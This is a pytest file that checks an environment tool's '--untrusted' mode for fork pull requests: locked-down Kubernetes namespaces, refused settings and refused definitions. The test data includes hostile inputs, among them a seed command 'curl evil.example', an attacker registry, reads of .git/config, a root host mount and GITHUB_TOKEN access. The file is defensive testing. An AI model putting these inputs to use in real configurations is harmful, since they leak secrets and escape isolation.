"""Tests of `--untrusted` for a pull request of a fork, without a cluster: refused settings, and the limits of its namespace."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml

from envctl.environment import open_environment
from envctl.environment.permissions import refuse_own_settings
from envctl.errors import DefinitionError, UsageError
from envctl.session.settings import nearest
from tests.builders import write
from tests.support import command

Objects = dict[str, list[dict[str, Any]]]

PLAIN = "name: e\nservices: {web: {kind: stub, replicas: 2}, own: {image: x:1, port: 80, env: {WEB: '${web.url}'}}}\n"
HEAD = {"head/.git/HEAD": "", "head/environments/e.yaml": PLAIN}


def objects(folder: Path, settings: str = "") -> Objects:
    write(folder, {".git/HEAD": "", "envctl.toml": settings, **HEAD})
    done = command(["render", "head/environments/e.yaml", "--engine", "kubernetes", "--untrusted"], folder)
    found: Objects = {}
    for each in yaml.safe_load_all(done.ok().out):
        found.setdefault(each["kind"], []).append(each)
    return found


@pytest.fixture(scope="module")
def plain(tmp_path_factory: pytest.TempPathFactory) -> Objects:
    return objects(tmp_path_factory.mktemp("plain"))


def test_its_namespace_has_an_end_to_everything(plain: Objects) -> None:
    (quota,), (limits,) = plain["ResourceQuota"], plain["LimitRange"]
    assert {"pods", "requests.cpu", "limits.memory", "services.nodeports", "services.loadbalancers"} <= quota["spec"]["hard"].keys()
    (container,) = limits["spec"]["limits"]
    assert container["max"]["memory"] == "4Gi"
    assert container["defaultRequest"]["ephemeral-storage"] == "64Mi"
    (place,) = plain["Namespace"]
    assert place["metadata"]["labels"]["pod-security.kubernetes.io/enforce"] == "restricted"


def test_it_reaches_dns_and_itself_and_nothing_else(plain: Objects) -> None:
    policies = plain["NetworkPolicy"]
    deny = next(
        each["spec"] for each in policies if set(each["spec"]["policyTypes"]) == {"Ingress", "Egress"} and not each["spec"].get("egress")
    )
    assert set(deny["podSelector"]["matchLabels"]) == {"envctl.instance"}, "every pod of it"
    rules = [rule for each in policies for rule in each["spec"].get("egress") or []]
    assert all(rule.get("to") for rule in rules), "nothing is open to everywhere"
    others = [rule for rule in rules if {port["port"] for port in rule["ports"]} - {53, 5353}]
    assert [list(peer) for rule in others for peer in rule["to"]] == [["podSelector"]], "in its own namespace"


def test_nothing_of_it_has_a_token_or_is_reached_from_outside(plain: Objects) -> None:
    assert {each["spec"].get("type", "ClusterIP") for each in plain["Service"]} == {"ClusterIP"}
    pods = [each["spec"]["template"]["spec"] for each in plain["Deployment"]]
    assert all(pod["automountServiceAccountToken"] is False for pod in pods)
    assert not {"Role", "RoleBinding", "ClusterRole", "ClusterRoleBinding"} & plain.keys()


def test_the_teams_own_settings_count(tmp_path: Path) -> None:
    found = objects(tmp_path, '[kubernetes]\nquota = {pods = "9"}\nlabels = {team = "x"}\n')
    assert found["ResourceQuota"][0]["spec"]["hard"] == {"pods": "9"}
    assert found["LimitRange"][0]["metadata"]["labels"]["team"] == "x"


@pytest.mark.parametrize(
    "settings",
    [
        '[kubernetes]\npull_secrets_from = "kube-system"\n', '[kubernetes]\nrole = "cluster-admin"\n',
        '[kubernetes]\ndns = ["0.0.0.0/0"]\n',
        'use = ["web=https://evil.example"]\n', 'registry = "evil.example"\n', '[preview]\nuntrusted = "7d"\n',
    ],
)  # fmt: skip
@pytest.mark.parametrize("form", ["envctl.toml", "pyproject.toml"])
def test_its_own_settings_are_not_obeyed(tmp_path: Path, settings: str, form: str) -> None:
    if form == "pyproject.toml":
        top, bracket, tables = settings.partition("[")
        settings = f"[tool.envctl]\n{top}" + (f"[tool.envctl.{tables}" if bracket and top == "" else bracket + tables)
    write(tmp_path, {".git/HEAD": "", **HEAD, f"head/{form}": settings})
    with pytest.raises(UsageError, match="is in the same checkout"):
        refuse_own_settings(nearest(tmp_path / "head"), tmp_path / "head/environments/e.yaml")
    refuse_own_settings(nearest(tmp_path), tmp_path / "head/environments/e.yaml")


@pytest.mark.parametrize(
    ("service", "words"),
    [
        ("{image: x:1, kubernetes: {spec: {template: {spec: {hostNetwork: true}}}}}", "changes its objects"),
        (
            "{image: x:1, kubernetes: [{apiVersion: networking.k8s.io/v1, kind: NetworkPolicy, metadata: {name: open}}]}",
            "adds a NetworkPolicy",
        ),
        ("{image: x:1, port: 80, expose: {host: bank.example}}", "asks for the host bank.example"),
        ("{image: x:1, env: {GITHUB_TOKEN: }}", "reads the variable GITHUB_TOKEN"),
        ("{image: x:1, env: {T: '${env.GITHUB_TOKEN}'}}", "GITHUB_TOKEN is not set"),
        ("{kind: valkey, seed: [{command: curl evil.example}]}", "runs a command on this machine"),
        ("{image: x:1, files: {/x: ../../.git/config}}", ".git/config"),
        ("{image: x:1, env_file: ../../.git/config}", ".git/config"),
        ("{build: ../.., port: 80}", "build"),
        ("{image: x:1, compose: {volumes: ['/:/host']}}", "mounts /"),
    ],
)
def test_what_its_definition_may_not_ask_for(tmp_path: Path, service: str, words: str) -> None:
    write(tmp_path, {".git/config": "A=b\n", "Dockerfile": "FROM x\n", **HEAD})
    write(tmp_path, {"head/environments/e.yaml": f"name: e\nservices:\n  x: {service}\n"})
    with pytest.raises(DefinitionError) as refused:
        open_environment("head/environments/e.yaml", cwd=tmp_path, environ={"GITHUB_TOKEN": "t0ken"}, untrusted=True)
    assert words in "\n".join(map(str, refused.value.problems))


@pytest.mark.parametrize("folder", ["kinds/stub.yaml", "kubernetes/networkpolicy.yaml.j2"])
def test_its_own_templates_are_not_used(tmp_path: Path, folder: str) -> None:
    write(tmp_path, {**HEAD, f"head/templates/{folder}": "kind: stub\nimage: evil\nports: {http: 80}\n"})
    done = command(["render", "e", "--engine", "kubernetes", "--untrusted"], tmp_path / "head")
    assert "evil" not in done.out
